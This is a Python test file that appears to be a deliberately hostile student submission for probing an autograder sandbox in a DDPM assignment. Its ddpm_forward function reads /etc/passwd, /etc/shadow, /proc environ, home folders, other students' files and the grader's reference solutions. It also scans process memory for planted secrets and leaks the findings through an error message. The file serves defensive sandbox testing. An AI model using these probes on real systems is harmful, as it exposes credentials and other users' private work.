"""Hostile submission: looks around the machine — lists `/`, reads home folders, /etc/passwd and /etc/shadow,
other students' files (beside it, in the sandbox's folder, in its own memory), the reference through the checkout's
path, /proc and the editable install's finder — and reports what it found in its error message (the feedback)"""
# HONEST_MAX = 4.0

import torch


def add_noise(x, sigma):
    return x + sigma * torch.randn_like(x)


def ddpm_schedule(beta1, beta2, num_ts):
    betas = torch.linspace(beta1, beta2, num_ts)
    alphas = 1 - betas
    return {"betas": betas, "alphas": alphas, "alpha_bars": torch.cumprod(alphas, 0)}


import glob
import json
import os
import re
import sys
import time

#: files a test plants outside the kit (another student's notebook beside this one, a file in a home folder)
EXTRA_TARGETS = []
#: what planted secrets look like (written so that this file itself holds no match)
MARK = "FUNDIFF" "-SECRET-[a-z]+"


def _read(path):
    try:
        with open(path, "rb") as handle:
            return handle.read(200000).decode("utf-8", "replace")
    except Exception:
        return None


def _listing(path):
    try:
        return sorted(os.listdir(path))
    except Exception:
        return None


def _kit_roots():
    roots = []
    try:
        import assignment

        roots.append(os.path.dirname(os.path.dirname(os.path.abspath(assignment.__file__))))
    except Exception:
        pass
    finders = [m for name, m in list(sys.modules.items()) if "editable" in name and hasattr(m, "MAPPING")]
    for folder in sys.path:
        finders += [{"MAPPING": dict(re.findall(r"'(\w+)': '([^']+)'", _read(p) or ""))}
                    for p in glob.glob(os.path.join(folder, "__editable__*finder.py"))]
    for finder in finders:
        mapping = finder["MAPPING"] if isinstance(finder, dict) else finder.MAPPING
        roots += [os.path.dirname(path) for path in mapping.values()]
    return sorted(set(roots))


def _memory_marks(budget_s=3.0, budget_bytes=1 << 30):
    """Secrets in this process's own memory (its writable mappings: what it inherited from its parent)."""
    import ctypes

    found, start, total = set(), time.monotonic(), 0
    pattern = re.compile(MARK.encode())
    try:
        with open("/proc/self/maps") as maps:
            lines = maps.read().splitlines()
    except OSError:
        return found
    for line in lines:
        parts = line.split()
        if len(parts) < 2 or not parts[1].startswith("rw") or (len(parts) >= 6 and parts[5] != "[heap]"):
            continue
        low, high = (int(x, 16) for x in parts[0].split("-"))
        for address in range(low, high, 1 << 24):
            if time.monotonic() - start > budget_s or total > budget_bytes:
                return found
            chunk = ctypes.string_at(address, min(1 << 24, high - address))
            total += len(chunk)
            found.update(m.group().decode() for m in pattern.finditer(chunk))
    return found


def ddpm_forward(unet, ddpm_schedule, x_0, num_ts):
    here = os.getcwd()  # groups/NAME/cwd in the sandbox's work folder
    work = os.path.dirname(os.path.dirname(os.path.dirname(here)))
    targets = ["/etc/passwd", "/etc/shadow", "/proc/1/environ", *EXTRA_TARGETS]
    targets += glob.glob("/root/*") + glob.glob("/root/.*") + glob.glob("/home/*/*") + glob.glob("/home/*/.*")
    targets += glob.glob(os.path.join(work, "*.json")) + glob.glob(os.path.join(work, "groups", "*", "*"))
    targets += glob.glob(os.path.join(work, "groups", "*", "out", "*"))
    targets += [os.path.join(p, name) for p in EXTRA_TARGETS for name in _listing(p) or []]
    for root in _kit_roots():
        for prefix in ("", "/proc/1/root", "/proc/self/root", "/proc/self/cwd/../../../../../../.."):
            targets += glob.glob(prefix + root + "/solutions/*.py") + glob.glob(prefix + root + "/autograder/*.py")
            targets += glob.glob(prefix + root + "/tests/*.py") + glob.glob(prefix + root + "/data/reference_models/*")
    targets += glob.glob("/proc/1/cwd/*.json") + glob.glob("/proc/1/cwd/../*/*.json")
    texts = {path: _read(path) for path in sorted(set(targets))[:2000]}
    read = {path: text for path, text in texts.items() if text}
    found = {m.group() for text in read.values() for m in re.finditer(MARK, text)} | _memory_marks()
    passwd = read.get("/etc/passwd") or ""
    report = {
        "found": sorted(found),
        "reference": sorted({os.path.basename(p) for p in read if "/solutions/" in p or "/reference_models/" in p})[:4],
        "shadow": "/etc/shadow" in read,
        "users": [line.split(":")[0] for line in passwd.splitlines()][:8],
        "root": _listing("/"),
        "kit": {root: _listing(root) for root in _kit_roots()[:2]},
        "home": _listing("/home"),
    }
    raise RuntimeError("saw " + json.dumps(report))
